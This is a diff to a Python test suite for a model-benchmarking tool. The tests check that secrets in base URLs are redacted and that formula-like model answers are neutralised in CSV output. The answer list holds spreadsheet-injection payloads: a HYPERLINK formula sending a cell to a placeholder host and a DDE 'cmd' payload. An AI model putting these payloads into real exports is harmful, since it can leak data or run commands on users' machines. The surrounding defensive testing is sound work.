@@ -5,23 +5,31 @@ that the audio arrived intact; it can be scripted to fail in the ways real APIs 
 """
 
 import base64
+import csv
 import io
 import json
 import logging
 import math
+import os
 import re
 import sqlite3
+import subprocess
+import sys
 import threading
 import time
 import wave
 from collections import deque
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
 
 import numpy as np
+import pandas as pd
 import pytest
 from rich.console import Console
 
 from biasbench.errors import BiasbenchError
+from biasbench.formats import strict_loads
 from biasbench.models.base import GenerationSettings, Request
 from biasbench.models.openai_api import CONTENT_FILTER_TEXT, OpenAIAudioBackend, option_logprobs_from
 from biasbench.models.registry import ALIASES, load_backend, resolve_model
@@ -71,6 +79,7 @@ class FakeOpenAI:
         self.rules: list = []
         self.calls: list[dict] = []
         self.headers: list[dict] = []
+        self.paths: list[str] = []  # each request's path and query, as sent
         self.times: list[float] = []
         self.max_top_logprobs: int | None = None
         self.logprobs_unsupported = False
@@ -102,6 +111,7 @@ class FakeOpenAI:
         with self.lock:
             self.calls.append(body)
             self.headers.append({k.lower(): v for k, v in h.headers.items()})
+            self.paths.append(h.path)
             self.times.append(time.monotonic())
             self.in_flight += 1
             self.max_in_flight = max(self.max_in_flight, self.in_flight)
@@ -110,7 +120,7 @@ class FakeOpenAI:
             if action is None:
                 action = self.script.popleft() if self.script else ("ok",)
         try:
-            if h.path != "/v1/chat/completions":
+            if urlsplit(h.path).path != "/v1/chat/completions":
                 return self.send(h, 404, {"error": {"message": "not found"}})
             self.act(h, body, action)
         except (BrokenPipeError, ConnectionResetError):
@@ -137,6 +147,8 @@ class FakeOpenAI:
             return self.send(h, 200, self.completion(body))
         if kind == "raw":
             return self.send(h, 200, action[1])
+        if kind == "say":  # a well-formed completion whose text is action[1]
+            return self.send(h, 200, self.completion(body, content=action[1]))
         if kind == "content_filter":
             return self.send(h, 200, self.completion(body, content=None, finish="content_filter"))
         if kind == "refusal":
@@ -511,6 +523,31 @@ def test_local_server_needs_no_key(server, monkeypatch):
     assert server.headers[0]["authorization"] == "Bearer EMPTY"
 
 
+def test_a_query_in_the_base_url_stays_a_query_and_its_secrets_stay_hidden(server, make, caplog):
+    """`--base-url 'http://h/v1?k=x'`: requests go to /v1/chat/completions?k=x (the query is not
+    pasted into the path), and neither the query value nor a user name or key-like path segment
+    shows in the backend's repr, fingerprint, errors or logs."""
+    caplog.set_level(logging.DEBUG)
+    port = server.httpd.server_address[1]
+    backend = make(base_url=f"http://127.0.0.1:{port}/v1/?k=S3CRET-q&api-version=2025-01-01&empty=")
+    assert backend.generate([mc(0, 0.1)])[0].error is None
+    sent = urlsplit(server.paths[0])
+    assert sent.path == "/v1/chat/completions"
+    assert parse_qs(sent.query, keep_blank_values=True) == {"k": ["S3CRET-q"], "api-version": ["2025-01-01"],
+                                                            "empty": [""]}
+    with pytest.raises(BiasbenchError, match=r"gives the query parameter 'k' twice") as twice:
+        make(base_url=f"http://127.0.0.1:{port}/v1?k=S3CRET-q&k=S3CRET-2")
+    assert "S3CRET" not in str(twice.value)
+    server.script.append(("status", 400, {}, {"error": {"message": f"bad request to {server.url}?k=S3CRET-q"}}))
+    response = backend.generate([mc(1, 0.1)])[0]
+    assert "HTTP 400" in response.error and "k=<redacted>" in response.error
+    lurking = make(base_url=f"http://USERTOKEN123@127.0.0.1:{port}/v1/sk-proj-S3CRET/?x=S3CRET-q")
+    for shown in (backend, lurking):
+        for text in (repr(shown), shown.base_url, json.dumps(shown.fingerprint()), response.error, caplog.text):
+            assert "S3CRET" not in text and "USERTOKEN" not in text, text
+    assert lurking.base_url == f"http://<redacted>@127.0.0.1:{port}/v1/<redacted>"
+
+
 # ---------------------------------------------------------------- registry
 
 
@@ -586,7 +623,8 @@ def test_runner_end_to_end_and_resume_never_pays_twice(server, tmp_path, monkeyp
     assert len(rows) == 36 and len({(r[0], r[1]) for r in rows}) == 36
     for item_id, voice_id, seconds, answer, status, logprobs in rows:
         assert status == "valid" and answer == letter_for(round(seconds * SR))
-        assert sum(math.exp(v) for v in json.loads(logprobs).values()) == pytest.approx(1.0)
+        # strict JSON: a letter outside the server's top alternatives (-inf) is stored as null
+        assert sum(math.exp(v) for v in strict_loads(logprobs).values() if v is not None) == pytest.approx(1.0)
     manifest = json.loads((result.run_dir / "manifest.json").read_text())
     assert manifest["model"]["fingerprint"] == {"backend": "openai", "model": "test-model",
                                                 "base_url": "127.0.0.1", "api": "chat.completions"}
@@ -595,3 +633,70 @@ def test_runner_end_to_end_and_resume_never_pays_twice(server, tmp_path, monkeyp
 
     again = run(RunOptions(**{**options.__dict__, "resume": True}), console=quiet)
     assert again.n_new == 0 and len(server.calls) == 36  # a rerun never pays twice
+
+
+ANSWERS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2", "-0.5", "@SUM(A1)", "\tTAB",
+           "NaN", "B"]
+
+
+@requires_espeak
+@pytest.mark.slow
+def test_console_run_hides_url_secrets_sends_the_query_apart_and_writes_safe_files(server, tmp_path):
+    """Through the installed console script, against the loopback server: a key in the base
+    URL's user name and query reaches the server as a query (not inside the path) and never
+    reaches manifest.json or the terminal; model answers that are spreadsheet formulas are text
+    in responses.csv while numbers stay numbers; every JSON file is strict (an answer "NaN"
+    leaves no bare NaN)."""
+    answers = iter(ANSWERS * 10)
+    lock = threading.Lock()
+
+    def say(body):
+        with lock:
+            return ("say", next(answers))
+
+    server.rules.append(say)
+    write(tmp_path / "tiny.csv", DATA)
+    task = write(tmp_path / "tiny.yaml", TASK + "scoring: generate\nitem_columns: [question]\n")
+    port = server.httpd.server_address[1]
+    env = dict(os.environ, OPENAI_API_KEY="sk-dummy-e2e", BIASBENCH_CACHE=str(tmp_path / "cache"))
+    done = subprocess.run(
+        [str(Path(sys.executable).parent / "biasbench"), "run", "--model", "openai:test-model", "--task", str(task),
+         "--pool", str(write(tmp_path / "pool.yaml", pool_yaml())), "--data-source", "local", "--limit", "1",
+         "--base-url", f"http://USERTOKEN9@127.0.0.1:{port}/v1?key=S3CRET-q", "-o", str(tmp_path / "runs"),
+         "--run-id", "api", "--no-progress", "--no-report"], env=env, capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stderr
+    assert len(server.paths) == 18 and all(path == "/v1/chat/completions?key=S3CRET-q" for path in server.paths)
+    run_dir = tmp_path / "runs" / "api"
+    for text in (done.stdout, done.stderr, (run_dir / "manifest.json").read_text()):
+        assert "S3CRET" not in text and "USERTOKEN9" not in text
+    manifest = strict_loads((run_dir / "manifest.json").read_text())
+    assert manifest["options"]["base_url"] == f"http://<redacted>@127.0.0.1:{port}/v1?key=<redacted>"
+    assert f"http://<redacted>@127.0.0.1:{port}/v1?key=<redacted>" in manifest["command"]
+    strict_loads((run_dir / "summary.json").read_text())  # no bare NaN
+    with open(run_dir / "responses.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    written = {row["response_text"] for row in rows}
+    assert written == {"'" + a if a[0] in "=+@\t" else a for a in ANSWERS}  # formulas are text; -2 is a number
+    assert {row["question"] for row in rows} == {"What is two plus two?"}  # plain text untouched
+    assert all(not row[c].startswith("'") for row in rows for c in ("audio_seconds", "latency_s"))
+    tidy = pd.read_parquet(run_dir / "responses.parquet")  # the parquet keeps the answers as given
+    assert set(tidy["response_text"]) == set(ANSWERS)
+
+
+@requires_espeak
+@pytest.mark.slow
+def test_console_run_where_every_request_fails_says_what_happened(server, tmp_path):
+    """Every request refused (HTTP 400, not retried): the run ends with exit 3 and says none was
+    answered, not that it was a text-only run."""
+    server.rules.append(lambda body: ("status", 400, {}, {"error": {"message": "model not found here"}}))
+    write(tmp_path / "tiny.csv", DATA)
+    env = dict(os.environ, OPENAI_API_KEY="sk-dummy-e2e", BIASBENCH_CACHE=str(tmp_path / "cache"))
+    done = subprocess.run(
+        [str(Path(sys.executable).parent / "biasbench"), "run", "--model", "openai:test-model", "--task",
+         str(write(tmp_path / "tiny.yaml", TASK)), "--pool", str(write(tmp_path / "pool.yaml", pool_yaml())),
+         "--data-source", "local", "--limit", "1", "--base-url", server.url, "-o", str(tmp_path / "runs"),
+         "--no-progress"], env=env, capture_output=True, text=True, timeout=300)
+    assert done.returncode == 3 and "Traceback" not in done.stderr, done.stderr
+    assert "text-only" not in done.stdout + done.stderr
+    assert "No answers to compare: none of the 18 planned requests" in done.stdout
+    assert "18 requests failed" in done.stderr and "model not found here" in done.stderr
